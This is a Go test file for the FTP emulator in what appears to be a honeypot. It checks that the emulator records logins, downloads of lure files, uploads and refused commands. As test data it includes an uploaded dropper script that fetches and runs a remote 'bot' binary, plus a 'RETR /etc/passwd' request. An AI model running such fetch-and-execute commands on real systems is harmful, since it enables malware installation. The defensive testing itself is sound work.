package emulator

import (
	"bufio"
	"context"
	"io"
	"net"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/zap/zaptest"

	"tenebrinet/internal/config"
	"tenebrinet/internal/event"
)

func runFTP(t *testing.T, cc *event.ConnectionContext, anonymous bool) (net.Conn, chan error) {
	t.Helper()

	server, client := net.Pipe()
	f := NewFTP(zaptest.NewLogger(t), config.FTPServiceConfig{AnonymousAllowed: anonymous}, 5*time.Second)

	errCh := make(chan error, 1)
	go func() {
		errCh <- f.Handle(context.Background(), server, cc)
		server.Close()
	}()
	t.Cleanup(func() { client.Close() })
	return client, errCh
}

func ftpExpect(t *testing.T, r *bufio.Reader, client net.Conn, cmd, wantPrefix string) string {
	t.Helper()

	if cmd != "" {
		_, err := client.Write([]byte(cmd + "\r\n"))
		require.NoError(t, err)
	}
	line, err := r.ReadString('\n')
	require.NoError(t, err)
	require.True(t, strings.HasPrefix(line, wantPrefix), "sent %q, want prefix %q, got %q", cmd, wantPrefix, line)
	return line
}

var pasvPattern = regexp.MustCompile(`\((\d+),(\d+),(\d+),(\d+),(\d+),(\d+)\)`)

func pasvAddr(t *testing.T, reply string) string {
	t.Helper()

	m := pasvPattern.FindStringSubmatch(reply)
	require.NotNil(t, m, "no address in PASV reply %q", reply)
	hi, _ := strconv.Atoi(m[5])
	lo, _ := strconv.Atoi(m[6])
	host := strings.Join(m[1:5], ".")
	return net.JoinHostPort(host, strconv.Itoa(hi*256+lo))
}

func TestFTPAnonymousSession(t *testing.T) {
	cc := event.NewConnectionContext("203.0.113.8:30021", event.ServiceFileTransfer, 1<<20)
	client, errCh := runFTP(t, cc, true)
	r := bufio.NewReader(client)

	ftpExpect(t, r, client, "", "220 ")
	ftpExpect(t, r, client, "USER anonymous", "230 ")
	ftpExpect(t, r, client, "SYST", "215 ")
	ftpExpect(t, r, client, "PWD", "257 ")

	reply := ftpExpect(t, r, client, "PASV", "227 ")
	data, err := net.Dial("tcp", pasvAddr(t, reply))
	require.NoError(t, err)

	client.Write([]byte("LIST\r\n"))
	ftpExpect(t, r, nil, "", "150 ")
	listing, err := io.ReadAll(data)
	require.NoError(t, err)
	data.Close()
	ftpExpect(t, r, nil, "", "226 ")
	assert.Contains(t, string(listing), "backups")

	ftpExpect(t, r, client, "QUIT", "221 ")
	require.NoError(t, <-errCh)

	require.Len(t, cc.Credentials, 1)
	assert.Equal(t, "anonymous", cc.Credentials[0].Username)
	assert.True(t, cc.Credentials[0].Success)

	// Every command is captured for the session record, USER included.
	var cmds []string
	for _, c := range cc.Commands {
		cmds = append(cmds, c.Command)
	}
	assert.Contains(t, cmds, "USER anonymous")
	assert.Contains(t, cmds, "SYST")
	assert.Contains(t, cmds, "LIST")
	assert.Contains(t, cmds, "QUIT")
}

func TestFTPAnonymousLoginSkipsPassword(t *testing.T) {
	cc := event.NewConnectionContext("203.0.113.8:30028", event.ServiceFileTransfer, 1<<20)
	client, _ := runFTP(t, cc, true)
	r := bufio.NewReader(client)

	ftpExpect(t, r, client, "", "220 ")
	reply := ftpExpect(t, r, client, "USER anonymous", "230 ")
	assert.Contains(t, reply, "Anonymous login ok")

	// Already authenticated; a PASS sent anyway is harmless.
	ftpExpect(t, r, client, "PASS guest@scan.example", "230 ")
	ftpExpect(t, r, client, "PWD", "257 ")

	require.Len(t, cc.Credentials, 1)
	assert.Equal(t, "anonymous", cc.Credentials[0].Username)
	assert.True(t, cc.Credentials[0].Success)
}

func TestFTPAnonymousDisallowed(t *testing.T) {
	cc := event.NewConnectionContext("203.0.113.8:30022", event.ServiceFileTransfer, 1<<20)
	client, _ := runFTP(t, cc, false)
	r := bufio.NewReader(client)

	ftpExpect(t, r, client, "", "220 ")
	ftpExpect(t, r, client, "USER anonymous", "530 ")

	require.Len(t, cc.Credentials, 1)
	assert.False(t, cc.Credentials[0].Success)
}

func TestFTPNamedLoginAlwaysSucceeds(t *testing.T) {
	cc := event.NewConnectionContext("203.0.113.8:30023", event.ServiceFileTransfer, 1<<20)
	client, _ := runFTP(t, cc, true)
	r := bufio.NewReader(client)

	ftpExpect(t, r, client, "", "220 ")
	ftpExpect(t, r, client, "USER backup_svc", "331 ")
	ftpExpect(t, r, client, "PASS Backup#2019", "230 ")

	require.Len(t, cc.Credentials, 1)
	assert.Equal(t, "backup_svc", cc.Credentials[0].Username)
	assert.Equal(t, "Backup#2019", cc.Credentials[0].Password)
	assert.True(t, cc.Credentials[0].Success)

	// The session record masks the password; the raw transcript keeps it.
	var cmds []string
	for _, c := range cc.Commands {
		cmds = append(cmds, c.Command)
	}
	assert.Contains(t, cmds, "USER backup_svc")
	assert.Contains(t, cmds, "PASS ***")
	assert.NotContains(t, cmds, "PASS Backup#2019")
	assert.Contains(t, string(cc.Transcript()), "Backup#2019")
}

func TestFTPRetrLureFile(t *testing.T) {
	cc := event.NewConnectionContext("203.0.113.8:30024", event.ServiceFileTransfer, 1<<20)
	client, _ := runFTP(t, cc, true)
	r := bufio.NewReader(client)

	ftpExpect(t, r, client, "", "220 ")
	ftpExpect(t, r, client, "USER anonymous", "230 ")
	ftpExpect(t, r, client, "CWD backups", "250 ")

	reply := ftpExpect(t, r, client, "PASV", "227 ")
	data, err := net.Dial("tcp", pasvAddr(t, reply))
	require.NoError(t, err)

	client.Write([]byte("RETR site_credentials.txt\r\n"))
	ftpExpect(t, r, nil, "", "150 ")
	content, err := io.ReadAll(data)
	require.NoError(t, err)
	data.Close()
	ftpExpect(t, r, nil, "", "226 ")
	assert.Contains(t, string(content), "wp-admin")
}

func TestFTPStorCapturesUpload(t *testing.T) {
	cc := event.NewConnectionContext("203.0.113.8:30025", event.ServiceFileTransfer, 1<<20)
	client, _ := runFTP(t, cc, true)
	r := bufio.NewReader(client)

	ftpExpect(t, r, client, "", "220 ")
	ftpExpect(t, r, client, "USER anonymous", "230 ")

	reply := ftpExpect(t, r, client, "PASV", "227 ")
	data, err := net.Dial("tcp", pasvAddr(t, reply))
	require.NoError(t, err)

	client.Write([]byte("STOR dropper.sh\r\n"))
	ftpExpect(t, r, nil, "", "150 ")
	data.Write([]byte("#!/bin/sh\nwget http://203.0.113.99/bot && chmod +x bot && ./bot\n"))
	data.Close()
	ftpExpect(t, r, nil, "", "226 ")

	assert.Contains(t, string(cc.Transcript()), "chmod +x bot")
}

func TestFTPCommandsBeforeLogin(t *testing.T) {
	cc := event.NewConnectionContext("203.0.113.8:30026", event.ServiceFileTransfer, 1<<20)
	client, _ := runFTP(t, cc, true)
	r := bufio.NewReader(client)

	ftpExpect(t, r, client, "", "220 ")
	ftpExpect(t, r, client, "LIST", "530 ")
	ftpExpect(t, r, client, "RETR /etc/passwd", "530 ")

	// Refused commands are still capture material.
	var cmds []string
	for _, c := range cc.Commands {
		cmds = append(cmds, c.Command)
	}
	assert.Equal(t, []string{"LIST", "RETR /etc/passwd"}, cmds)
}

func TestFTPUnknownCommandNotesViolation(t *testing.T) {
	cc := event.NewConnectionContext("203.0.113.8:30027", event.ServiceFileTransfer, 1<<20)
	client, _ := runFTP(t, cc, true)
	r := bufio.NewReader(client)

	ftpExpect(t, r, client, "", "220 ")
	ftpExpect(t, r, client, "USER anonymous", "230 ")
	ftpExpect(t, r, client, "XPWN aaaa", "502 ")

	assert.Contains(t, string(cc.Transcript()), "protocol-violation")
}
